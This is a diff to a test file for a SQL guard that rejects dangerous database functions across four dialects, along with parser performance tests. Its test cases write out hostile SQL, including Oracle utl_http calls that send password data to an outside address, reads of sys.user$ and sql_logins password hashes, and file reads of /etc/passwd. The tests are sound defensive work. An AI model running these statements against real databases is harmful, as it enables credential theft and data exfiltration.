@@ -1,4 +1,9 @@
+import { numberParameters } from '@/lib/engine'
+import { costOf } from '@/tests/support/cost'
 import { forbiddenIn } from './forbidden-functions'
+import { namedParameters } from './named-parameters'
+import { questionMarks } from './question-marks'
+import { isReading } from './single-query'
 import { checkAddress, objectionTo } from './address-guard'
 
 describe('S9 names no statement of a designer may use', () => {
@@ -32,6 +37,52 @@ describe('S9 names no statement of a designer may use', () => {
     `select "lo_create" from t`,
   ])('are not found where they are no call: %s', (statement) => expect(forbiddenIn(statement, 'postgres')).toBe(''))
 
+  it.each([
+    `select utl_http.request('http://10.0.0.1/' || pw) from accounts`,
+    `select UTL_HTTP . request('http://x') from dual`,
+    `select sys."UTL_INADDR".get_host_address('x.example.com') from dual`,
+    `select utl_tcp/* x */.open_connection('h', 80) from dual`,
+    `select httpuritype('http://10.0.0.1/').getclob() from dual`,
+    `select sys.HttpUriType ('http://x') from dual`,
+    `select urifactory.geturi('http://x') from dual`,
+    `select dbms_pipe.receive_message('a', 3600) from dual`,
+    `select dbms_lock.request(1) from dual`,
+    `select dbms_xmlgen.getxml('select * from sys.user$') from dual`,
+    `select dbms_xmlquery.getxml('select 1 from dual') from dual`,
+    `select dbms_ldap.init('10.0.0.1', 389) from dual`,
+    `select bfilename('DIR', 'passwd') from dual`,
+    `select ctxsys.drithsx.sn(1, 'select 1 from dual') from dual`,
+    `select q'[']', utl_http.request('http://x') from dual`,
+    `select nq'!'!', utl_http.request('http://x') from dual`,
+    `select password from sys.user$`,
+    `select passwordx from sys."LINK$"`,
+  ])('are found in a statement of Oracle: %s', (statement) => expect(forbiddenIn(statement, 'oracle')).not.toBe(''))
+
+  it.each([
+    'select utl_http, dbms_pipe from prices',
+    `select 'utl_http.request(1)' as told from dual`,
+    `select q'[utl_http.request('x')]' as told from dual`,
+    'select id from t -- dbms_pipe.receive_message(',
+    'select dbms_lob.substr(note, 100, 1), utl_raw.cast_to_raw(name) from t',
+    `select t.id, to_char(t.at, 'YYYY') from "orders" t where t.no = :p1`,
+  ])('are not found where Oracle calls none: %s', (statement) => expect(forbiddenIn(statement, 'oracle')).toBe(''))
+
+  it('are known of SQL Server', () => {
+    for (const statement of [
+      `select * from openrowset('SQLNCLI', 'h', 'select 1')`,
+      `select * from sys.fn_get_audit_file('\\\\10.0.0.1\\x', null, null)`,
+      `select * from [sys].[fn_xe_file_target_read_file] ('\\\\h\\x', null, null, null)`,
+      `select * from sys.dm_os_enumerate_filesystem('C:\\', '*')`,
+      'select password_hash from master.sys.sql_logins',
+    ])
+      expect({ statement, found: forbiddenIn(statement, 'sqlserver') !== '' }).toEqual({ statement, found: true })
+    for (const statement of [
+      `select [fn_dblog], 'openrowset(' from #prices -- xp_cmdshell(`,
+      'select count(*) from orders where no = @p1',
+    ])
+      expect({ statement, found: forbiddenIn(statement, 'sqlserver') }).toEqual({ statement, found: '' })
+  })
+
   it('are known of MySQL', () => {
     for (const statement of [
       `select load_file('/etc/passwd')`,
@@ -40,6 +91,32 @@ describe('S9 names no statement of a designer may use', () => {
     ])
       expect(forbiddenIn(statement, 'mysql')).not.toBe('')
     expect(forbiddenIn(`select 'get_lock(1)', get_lock from t # get_lock(`, 'mysql')).toBe('')
+  })
+})
+
+describe('R11 a statement', () => {
+  const filled = (one: string) => one.repeat(50_000 / one.length)
+  it.each([
+    ['brackets', filled('[')],
+    ['escapes', filled(`'\\`)],
+    ['quotes of Oracle', filled(`q'[a`)],
+    ['quotes of its own', Array.from({ length: 12_000 }, (_, at) => `q'${String.fromCharCode(1000 + at)}`).join('')],
+    ['names in quotes', filled(`["`)],
+    ['escaped names', filled(`"\\`)],
+    ['texts with escapes', filled(`e'\\\\`)],
+    ['comments', filled('/*')],
+    ['dollars', Array.from({ length: 7000 }, (_, at) => `$a${at}$`).join('')],
+  ])('as long as one may be is looked through in one go, whatever stays open in it: %s', async (_what, text) => {
+    for (const dialect of ['postgres', 'mysql', 'sqlserver', 'oracle'] as const) {
+      const cost = await costOf(() => {
+        forbiddenIn(text, dialect)
+        isReading(text, dialect)
+        questionMarks(text, [])
+        namedParameters(text, [], ':')
+        numberParameters(text)
+      })
+      expect(cost).toBeLessThan(8)
+    }
   })
 })
 
